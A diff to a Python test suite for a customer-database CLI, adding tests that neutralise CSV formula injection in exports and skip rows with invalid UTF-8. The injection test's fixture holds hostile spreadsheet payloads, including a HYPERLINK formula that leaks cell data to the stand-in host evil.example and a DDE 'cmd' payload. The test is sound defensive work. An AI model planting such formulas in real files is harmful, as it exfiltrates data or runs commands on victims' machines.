@@ -1,6 +1,8 @@
 """import -> show -> update -> export round-trips every field; create, delete."""
+import csv
 import json
 import re
+import sqlite3
 
 import clitest
 from clitest import EXPORT_COLUMNS
@@ -148,7 +150,14 @@ class RoundTrip(clitest.CliTest):
         self.assertEqual(len(rows), 2)
         first = rows[0]
         for k in header:
-            self.assertEqual(first[k], exp.get(k, ""), k)
+            want = exp.get(k, "")
+            if want[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                want = "'" + want  # a formula to a spreadsheet: as text
+            self.assertEqual(first[k], want, k)
+        # --raw: every value as stored
+        raw = self.read_csv(self.ok("export", "--raw"))[0]
+        for k in header:
+            self.assertEqual(raw[k], exp.get(k, ""), k)
         second = rows[1]
         for k in header:
             want = SECOND.get(k, "")
@@ -178,6 +187,72 @@ class RoundTrip(clitest.CliTest):
             return cs
         self.assertEqual(strip(self.export_json()),
                          strip(json.loads(self.ok("--db", other, "export", "--format", "json", db=False))))
+
+    def test_formulas_are_text_in_exports_and_rejects(self):
+        """Issue 13, defect 6 (OWASP CSV injection): exports and the rejects
+        file write values a spreadsheet would run as formulas with a ' in
+        front; --raw writes them as they are; import takes the ' off again."""
+        evil = {"last_name": '=HYPERLINK("http://evil.example/?"&A1,"Rechnung")',
+                "first_name": "=cmd|' /C calc'!A0", "company": "+SUM(1)", "notes": "@SUM(A1:A9)",
+                "order_text": "-2+3", "title": "'=schon Text"}
+        src = self.write_csv("evil.csv", ["id"] + list(evil) + ["email"],
+                             [["e1"] + list(evil.values()) + ["e1@example.de"],
+                              ["e2"] + list(evil.values()) + ["kaputt"]])
+        self.fails(1, "import", src)  # e2 is rejected for its email
+        with open(self.path("evil.rejects.csv"), encoding="utf-8", newline="") as f:
+            rejected = list(csv.reader(f))
+        text = self.ok("export")
+        exported = self.read_csv(text)[0]
+        for cells in (rejected[1][3:9], [exported[k] for k in evil]):
+            for cell in cells:
+                self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), cell)
+        # as imported (the ' of '=schon Text came off, as the man page says) ...
+        stored = self.show_json("e1")
+        self.assertEqual(stored["title"], "=schon Text")
+        raw = self.read_csv(self.ok("export", "--raw"))[0]
+        for k in evil:
+            self.assertEqual(exported[k], "'" + stored[k])
+            self.assertEqual(raw[k], stored[k])
+        # ... and an export imports again to the same values
+        self.write_bytes("again.csv", text.encode("utf-8"))
+        other = self.path("other.db")
+        self.ok("--db", other, "import", self.path("again.csv"), db=False)
+        again = json.loads(self.ok("--db", other, "show", "e1", "--json", db=False))
+        for k in evil:
+            self.assertEqual(again[k], stored[k], k)
+        # --raw on import keeps the ' and writes rejects as they are
+        raw_src = self.write_csv("raw.csv", ["id", "last_name", "email"], [["r1", "'=x", "r1@example.de"],
+                                                                          ["r2", "=y", "kaputt"]])
+        self.fails(1, "import", "--raw", raw_src)
+        self.assertEqual(self.show_json("r1")["last_name"], "'=x")
+        with open(self.path("raw.rejects.csv"), encoding="utf-8", newline="") as f:
+            self.assertEqual(list(csv.reader(f))[1][3], "=y")
+
+    def test_unreadable_row_is_reported_and_left_out(self):
+        """Issue 13, defect 8: a row another program wrote with invalid UTF-8
+        stopped export half-way (JSON cut short) and list; now it is named on
+        stderr, left out, the output is whole, and the exit status is 1."""
+        for n in ("Anna", "Bert", "Cora"):
+            self.ok("create", "last_name=" + n)
+        con = sqlite3.connect(self.db)
+        con.execute("UPDATE patron_customers SET last_name = CAST(X'42FF65' AS TEXT) WHERE id = 2")
+        con.commit()
+        con.close()
+        for args in (["export", "--format", "json"], ["export"], ["list"], ["list", "--json"]):
+            r = self.run_cli(*args)
+            self.assertEqual(r.returncode, 1, args)
+            err = r.stderr.decode()
+            self.assertIn("patron: customer #2 skipped", err)
+            self.assertIn("not valid UTF-8", err)
+            self.assertTrue(err.endswith("patron: 1 customer could not be read and was left out (see above)\n"),
+                            err)
+            out = r.stdout.decode("utf-8")  # well-formed UTF-8
+            if "--json" in args or "json" in args:
+                self.assertEqual([c["last_name"] for c in json.loads(out)], ["Anna", "Cora"])
+            elif args == ["export"]:
+                self.assertEqual([c["last_name"] for c in self.read_csv(out)], ["Anna", "Cora"])
+            else:
+                self.assertEqual(len(out.splitlines()), 2)
 
     def test_export_to_file_and_json(self):
         self.import_two()
